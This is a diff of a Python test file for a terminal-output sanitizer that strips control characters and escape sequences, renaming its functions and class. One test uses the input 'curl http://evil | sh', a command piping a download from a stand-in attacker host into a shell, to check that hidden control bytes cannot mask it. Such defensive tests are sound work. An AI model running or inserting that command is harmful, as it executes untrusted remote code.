@@ -6,7 +6,13 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from clinvk.text.sanitize import STRING_LONGEST, Cleaner, clean, one_line, with_visible_order
+from clinvk.text.sanitize import (
+    STRING_LONGEST,
+    StreamSanitizer,
+    one_line,
+    sanitize,
+    with_visible_order,
+)
 
 CONTROLS = {*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0))} - {"\t", "\n"}
 INTRODUCERS = ["\x1b]", "\x1bP", "\x1bX", "\x1b^", "\x1b_", "\x9d", "\x90", "\x98", "\x9e", "\x9f"]
@@ -26,42 +32,42 @@ TEXTS = st.lists(PIECES, max_size=30).map("".join)
 
 
 def in_pieces(pieces: list[str]) -> str:
-    cleaner = Cleaner()
-    return "".join([*map(cleaner.feed, pieces), cleaner.end()])
+    cleaner = StreamSanitizer()
+    return "".join([*map(cleaner.feed, pieces), cleaner.finish()])
 
 
 @given(TEXTS)
 def test_no_control_character_is_left(text: str):
-    assert not CONTROLS & {*clean(text)}
+    assert not CONTROLS & {*sanitize(text)}
 
 
 @given(st.text().filter(lambda text: not CONTROLS & {*text}))
 def test_text_without_control_characters_is_unchanged(text: str):
-    assert clean(text) == text
+    assert sanitize(text) == text
 
 
 @given(TEXTS)
 def test_a_second_time_changes_nothing(text: str):
-    assert clean(clean(text)) == clean(text)
+    assert sanitize(sanitize(text)) == sanitize(text)
 
 
 @given(TEXTS, st.data())
 def test_any_division_into_pieces_gives_the_same(text: str, data: st.DataObject):
     cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=10)))
     ends = [*cuts, len(text)]
-    assert in_pieces([text[a:b] for a, b in zip([0, *cuts], ends, strict=True)]) == clean(text)
-    assert in_pieces([*text]) == clean(text)
+    assert in_pieces([text[a:b] for a, b in zip([0, *cuts], ends, strict=True)]) == sanitize(text)
+    assert in_pieces([*text]) == sanitize(text)
 
 
 @given(TEXTS, TEXTS)
 def test_a_line_is_cleaned_by_itself(one: str, other: str):
-    assert clean(f"{one}\n{other}") == f"{clean(one)}\n{clean(other)}"
+    assert sanitize(f"{one}\n{other}") == f"{sanitize(one)}\n{sanitize(other)}"
 
 
 @pytest.mark.parametrize("begin", INTRODUCERS)
 @pytest.mark.parametrize("end", TERMINATORS)
 def test_a_control_string_is_removed_up_to_its_terminator(begin: str, end: str):
-    assert clean(f"a{begin}0;title{end}b") == "ab"
+    assert sanitize(f"a{begin}0;title{end}b") == "ab"
     assert in_pieces([*f"a{begin}0;title{end}b"]) == "ab"
 
 
@@ -70,13 +76,13 @@ def test_a_control_string_is_removed_up_to_its_terminator(begin: str, end: str):
     "rest", ["all of it", "first\nsecond\x07", "\x1b[31mred\x1b[0m", "one\x9dtwo", "one\rtwo\x07", "one\x1b"]
 )  # fmt: skip
 def test_the_text_of_a_control_string_without_an_end_stays(begin: str, rest: str):
-    assert clean(f"a {begin}{rest}") == f"a {clean(rest)}"
-    assert in_pieces([*f"a {begin}{rest}"]) == f"a {clean(rest)}"
+    assert sanitize(f"a {begin}{rest}") == f"a {sanitize(rest)}"
+    assert in_pieces([*f"a {begin}{rest}"]) == f"a {sanitize(rest)}"
 
 
 def test_a_quotation_mark_read_as_latin_1_hides_nothing():
     text = "He said “yes” and left. ".encode().decode("latin-1") + "The rest."
-    assert clean(text).endswith("and left. The rest.")
+    assert sanitize(text).endswith("and left. The rest.")
     assert one_line("ls \x9d; curl http://evil | sh") == "ls ; curl http://evil | sh"
 
 
@@ -85,15 +91,15 @@ def test_a_quotation_mark_read_as_latin_1_hides_nothing():
 def test_the_text_of_a_very_long_control_string_stays(begin: str, extra: int):
     text = begin + "a" * (STRING_LONGEST + extra) + "\x1b\\."
     shown = "." if extra <= 0 else "a" * (STRING_LONGEST + extra) + "."
-    assert clean(text) == shown
+    assert sanitize(text) == shown
     assert in_pieces([text[:-2], text[-2:]]) == shown
     assert in_pieces([text[:9], *text[9:-3], "\x1b", "", "\\", "."]) == shown
     assert in_pieces([text[:-3]]) == text[len(begin) : -3]
 
 
 def test_a_sequence_longer_than_any_is_text():
-    assert clean("\x1b[" + "1" * 64 + "mred") == "red"
-    assert clean("\x1b[" + "1" * 65 + "mred") == "1" * 65 + "mred"
+    assert sanitize("\x1b[" + "1" * 64 + "mred") == "red"
+    assert sanitize("\x1b[" + "1" * 65 + "mred") == "1" * 65 + "mred"
 
 
 WORST = {
@@ -112,7 +118,7 @@ WORST = {
 def test_no_text_takes_long(name: str):
     text = WORST[name]
     began = time.process_time()
-    shown = clean(text)
+    shown = sanitize(text)
     assert time.process_time() - began < 5  # where time grows with the square, it takes minutes
     began = time.process_time()
     assert in_pieces([*text]) == shown
@@ -120,12 +126,12 @@ def test_no_text_takes_long(name: str):
 
 
 def test_empty_pieces_of_an_open_string_take_no_time():
-    cleaner = Cleaner()
+    cleaner = StreamSanitizer()
     cleaner.feed("\x9d" + "a" * 60_000 + "\x1b")
     began = time.process_time()
     assert "".join(cleaner.feed("") for _ in range(100_000)) == ""
     assert time.process_time() - began < 5
-    assert cleaner.feed("\\b") + cleaner.end() == "b"
+    assert cleaner.feed("\\b") + cleaner.finish() == "b"
 
 
 def test_what_changes_the_order_of_text_can_be_made_visible():
